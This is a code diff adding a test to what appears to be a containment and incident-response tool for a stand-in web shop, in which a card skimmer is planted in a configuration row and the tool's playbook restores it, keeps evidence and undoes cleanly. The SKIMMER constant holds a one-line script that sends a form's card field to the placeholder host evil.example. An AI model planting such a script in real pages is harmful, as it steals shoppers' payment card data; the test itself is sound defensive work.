@@ -6,7 +6,7 @@ usage: contain_runs.py MAGEWARDEN
 Starts the stand-in shop (nginx, php-fpm, MariaDB, Redis). A web shell is dropped and used; the shipped playbook is planned, approved by
 its hash and carried out: the attack fails after it, evidence was kept first, checkouts of every view pass throughout, and undone all
 is as before to the byte. Then the same with the process killed at random, forwards and back; one view closed while an attacker's
-load on another changes nothing; a database account that was stolen; a plan that was changed after approval; a host that is frozen.
+load on another changes nothing; a database account that was stolen; a skimmer in a row; a plan that was changed after approval; a host that is frozen.
 """
 import contextlib
 import hashlib
@@ -240,6 +240,42 @@ def stolen_account(runs, shop):
         held.wait()
 
 
+SKIMMER, CLEAN = "<script>new Image().src=\"//evil.example/?\"+document.forms[0].cc.value</script>", '<link rel="stylesheet" href="/static/shop.css">'
+
+
+def skimmer_row(runs, shop):
+    """A skimmer in a row of the configuration: the row is kept as it is, put back to a kept value, and undone with its time."""
+    key = shop.sql("select config_id from shop.mg_core_config_data where path = 'design/head/includes'").strip()
+    shop.sql(f"update shop.mg_core_config_data set value = '{SKIMMER}', updated_at = '2026-08-05 10:15:03' where config_id = {key}")
+    (runs.good / f"core_config_data:{key}.json").write_text(json.dumps({"value": CLEAN}))
+    before, skims = runs.seen(), lambda: "evil.example" in str(shop.ask("de.shop.test", "/")[2])
+    shop.flush()
+    need(skims(), "the page skims before")
+    run = runs.begin("skimmer-in-configuration-or-cms", row=f"core_config_data:{key}", view="de", goes_on="false", is_clean="true")
+    shown = runs.to_its_end(run)
+    states = {step["name"]: step["state"] for step in shown["steps"]}
+    need(states["Put the row back"].startswith("done, and seen"), "the row is put back", states)
+    shop.flush()
+    need(not skims(), "the page doesn't skim any more")
+    kept = {path.name: path.read_text() for path in (runs.folder / "ours" / "evidence" / run).rglob("*") if path.is_file()}
+    rows = [text for name, text in kept.items() if "row_core_config_data" in name]
+    need(len(rows) == 1 and "evil.example" in rows[0] and "2026-08-05 10:15:03" in rows[0], "the row is in the evidence as it was, with its time", rows)
+    need(any("page_de.shop.test" in name and "evil.example" in text for name, text in kept.items()), "so is the page", list(kept))
+    runs.runs("undo", run, "--why", "over")
+    need(runs.seen() == before, "undone, the row is as before, its time as well")
+    runs.runs("close", run)
+    need("isn't there" in refused_row(runs), "a row that isn't there can't be kept, and the run waits")
+
+
+def refused_row(runs):
+    run = runs.begin("skimmer-in-configuration-or-cms", row="core_config_data:99999", view="de", goes_on="false", is_clean="true")
+    runs.runs("say", run, "done")
+    told = runs.show(run)["waits"]
+    runs.runs("undo", run, "--why", "over")
+    runs.runs("close", run)
+    return told
+
+
 def frozen(runs, shop):
     before = shop_as_it_is(runs, shop)
     runs.runs("freeze", "--why", "who does this?")
@@ -269,8 +305,9 @@ def main():
         midway = kills(runs, shop)
         load_elsewhere(runs, shop)
         stolen_account(runs, shop)
+        skimmer_row(runs, shop)
         frozen(runs, shop)
-        print(f"5 passed, 0 failed ({bought} checkouts meanwhile, {KILLS} runs, {midway} kills midway)")
+        print(f"6 passed, 0 failed ({bought} checkouts meanwhile, {KILLS} runs, {midway} kills midway)")
 
 
 if __name__ == "__main__":
